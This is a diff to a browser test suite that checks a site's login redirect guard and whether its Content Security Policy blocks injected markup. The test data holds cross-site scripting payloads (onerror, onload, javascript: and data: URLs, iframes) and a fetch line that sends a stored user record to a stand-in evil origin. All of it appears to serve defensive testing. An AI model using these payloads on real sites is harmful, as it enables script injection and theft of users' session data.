@@ -85,14 +85,14 @@ describe('the page after the sign-in [Section 2, Login guard]', () => {
         Promise.all(all.map((address) => fetch(address).then(({ redirected, url }) => ({ redirected, url }), String))),
       addresses,
     );
-    const astray = responses
+    const leaving = responses
       .map((response, index) => ({ from: addresses[index], response }))
       .filter(
         ({ response }) =>
           typeof response === 'string' || !response.redirected || new URL(response.url).origin !== site.origin,
       );
     expect(responses).toHaveLength(60);
-    expect(astray).toEqual([]);
+    expect(leaving).toEqual([]);
     // Also as documents, whose scripts could navigate.
     for (const address of addresses.slice(0, known.length)) {
       await page.goto(address);
@@ -118,7 +118,7 @@ describe('markup injected into a member’s page [G8]', () => {
   const MARKUP = [
     `<img src="/x" onerror="${READ}"><svg onload="${READ}"></svg><details open ontoggle="${READ}"></details>`,
     `<iframe srcdoc="<script>parent.${READ}</script>"></iframe><iframe src="javascript:parent.${READ}"></iframe>`,
-    `<a id="slipped" href="javascript:${READ}">x</a><object data="data:text/html,<script>parent.${READ}</script>"></object>`,
+    `<a id="injected" href="javascript:${READ}">x</a><object data="data:text/html,<script>parent.${READ}</script>"></object>`,
     `<link rel="stylesheet" href="${EVIL_ORIGIN}/style.css">`,
     `<form action="${EVIL_ORIGIN}/form"><button id="sent" name="a" value="b">x</button></form><img src="${EVIL_ORIGIN}/image">`,
   ].join('');
@@ -146,11 +146,11 @@ describe('markup injected into a member’s page [G8]', () => {
         document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
           blocked.push(effectiveDirective),
         );
-        const slipped = document.createElement('div');
-        slipped.innerHTML = markup ?? '';
-        document.body.append(slipped);
-        slipped.querySelector<HTMLElement>('#slipped')?.click();
-        slipped.querySelector<HTMLElement>('#sent')?.click();
+        const injected = document.createElement('div');
+        injected.innerHTML = markup ?? '';
+        document.body.append(injected);
+        injected.querySelector<HTMLElement>('#injected')?.click();
+        injected.querySelector<HTMLElement>('#sent')?.click();
         const record = localStorage.getItem('user');
         // Assumes that a script runs all the same: it can read the record but cannot send it.
         const sent = await fetch(`${evilOrigin}/fetch?${record}`, { method: 'POST', mode: 'no-cors' }).then(
